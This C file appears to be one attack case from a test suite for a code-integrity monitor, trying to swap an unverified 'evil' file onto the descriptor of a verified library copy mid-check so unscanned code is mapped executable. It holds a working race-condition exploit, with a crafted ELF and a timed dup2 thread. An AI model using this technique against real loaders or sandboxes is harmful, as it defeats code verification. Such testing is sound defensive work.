/* attack
class: code
aim: memory
race: true
tries: another file put in place of a verified copy while that is open to be mapped
expect: { none: contained, mpk: contained }
options: ["-pthread", "-fno-builtin"]
*/
/* To map a library's page of code the monitor opens its copy, looks whether it is one, and maps it. Meanwhile the copy has a number among the
   descriptors of the program, where another thread may put another file. It waits for the number to be taken, and for another while each time.
   What is mapped then may be executed, and nobody has searched it. */
#include "made-code.h"
#include <elf.h>
#include <pthread.h>
#include <time.h>

static int library, evil, number;
static volatile int delay, stopped;

static int make_file(const char *name, const void *head, size_t head_bytes, const void *code, size_t code_bytes) {
    static unsigned char file[5 * 4096];
    memset(file, 0x90, sizeof file);
    memcpy(file, head, head_bytes);
    for (size_t at = head_bytes ? 4096 : 0; at < sizeof file; at += 4096) memcpy(file + at, code, code_bytes);
    int fd = open(name, O_RDWR | O_CREAT | O_TRUNC, 0755);
    ssize_t bytes = head_bytes ? 8192 : sizeof file;
    if (write(fd, file, (size_t)bytes) != bytes) not_here("a file could not be written");
    close(fd);
    return open(name, O_RDONLY);
}

static int make_library(void) {
    struct {
        Elf64_Ehdr header;
        Elf64_Phdr segments[2];
    } head = {{.e_ident = {0x7f, 'E', 'L', 'F', ELFCLASS64, ELFDATA2LSB, EV_CURRENT}, .e_type = ET_DYN, .e_machine = EM_X86_64, .e_version = EV_CURRENT,
               .e_phoff = sizeof(Elf64_Ehdr), .e_ehsize = sizeof(Elf64_Ehdr), .e_phentsize = sizeof(Elf64_Phdr), .e_phnum = 2},
              {{.p_type = PT_LOAD, .p_flags = PF_R, .p_filesz = 0x200, .p_memsz = 0x200, .p_align = 4096},
               {.p_type = PT_LOAD, .p_flags = PF_R | PF_X, .p_offset = 4096, .p_vaddr = 4096, .p_paddr = 4096, .p_filesz = 4096, .p_memsz = 4096, .p_align = 4096}}};
    static const unsigned char code[] = {0xb8, 39, 0, 0, 0, 0x0f, 0x05, 0xc3}; /* mov $getpid, %eax; syscall; ret */
    return make_file("library.so", &head, sizeof head, code, sizeof code);
}

static void *swaps(void *unused) {
    (void)unused;
    while (!stopped) {
        /* The lowest number that is free: taken, the copy has it. */
        while (!stopped && syscall(SYS_fcntl, number, F_GETFD) < 0) {}
        for (uint64_t begin = __builtin_ia32_rdtsc(); __builtin_ia32_rdtsc() - begin < (uint64_t)delay;) {}
        syscall(SYS_dup2, evil, number);
        syscall(SYS_close, number);
    }
    return NULL;
}

static unsigned char *map_code(int fd) {
    unsigned char *object = mmap(NULL, 8192, PROT_READ, MAP_PRIVATE | MAP_DENYWRITE, library, 0);
    if (object == MAP_FAILED || mmap(object + 4096, 4096, PROT_READ | PROT_EXEC, MAP_PRIVATE | MAP_FIXED, fd, 4096) == MAP_FAILED) return NULL;
    if (object[4096] == opens_keys[0]) return object + 4096;
    munmap(object, 8192);
    return NULL;
}

int main(void) {
    struct target t[64];
    read_targets(t, 64);
    library = make_library();
    evil = make_file("evil", "", 0, opens_keys, sizeof opens_keys);
    if (t[0].own) verdict(map_code(evil) != NULL);
    map_code(library); /* by now there is a copy */
    number = dup(0);
    close(number);
    pthread_t thread;
    if (pthread_create(&thread, NULL, swaps, NULL)) not_here("no thread could be made");
    time_t begin = time(NULL);
    int escaped = 0;
    for (int i = 0; !escaped && time(NULL) < begin + 20; i++) {
        delay = 1500 + i * 97 % 4000; /* clock cycles */
        escaped = map_code(library) != NULL;
    }
    stopped = 1;
    verdict(escaped);
}
